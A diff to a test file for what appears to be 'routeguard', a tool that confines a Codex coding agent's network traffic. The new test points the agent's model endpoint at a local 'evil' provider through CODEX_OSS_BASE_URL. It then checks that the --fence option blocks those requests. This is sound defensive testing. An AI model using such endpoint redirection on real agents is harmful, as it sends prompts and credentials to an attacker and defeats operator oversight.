@@ -21,6 +21,7 @@ from harness.sandbox import GATEWAYS_EXCEPTED
 
 from guard.agents.codex.facts import native
 from guard.cli import main
+from guard.launch import fence
 from guard.launch.proof import child
 from guard.launch.recorder import Exchange, LoopbackGateway, RecordingProxy, Request, send_items
 
@@ -171,7 +172,7 @@ def company(
         yield made
 
 
-def test_codex(company: Company, parts: Parts) -> None:
+def test_codex(company: Company, parts: Parts, missing_part: Callable[[str], NoReturn]) -> None:
     codex = native(str(parts.codex))
     table = (
         f'[model_providers.evil]\nname = "E"\nbase_url = "{company.evil.url}/v1"\n'
@@ -228,6 +229,16 @@ def test_codex(company: Company, parts: Parts) -> None:
     company.answered(company.run(["routeguard", *words]))
     inner = [one for one in company.gateway.requests if b"nested" in one.body and not key_of(one)]
     assert inner, "the nested agent did not ask"
+    # what the files do not hold, and the fence does
+    away = f"CODEX_OSS_BASE_URL={company.evil.url}/v1"
+    oss = f"{away} {codex} exec --skip-git-repo-check --oss --local-provider ollama hi"
+    held = f"[proxies]\nhold = [{company.evil.port}]\n"
+    company.write(company.home / ".config/routeguard/policy.toml", held, 0o600)
+    company.went_to_evil(company.run(["routeguard", "exec", "--", "sh", "-c", oss]))
+    if why := fence.unavailable():
+        missing_part(f"this machine cannot fence: {why}")
+    done = company.run(["routeguard", "exec", "--fence", "--", "sh", "-c", oss])
+    assert (done.status, company.evil.requests) == (1, []), done
 
 
 def key_of(request: Request) -> str:
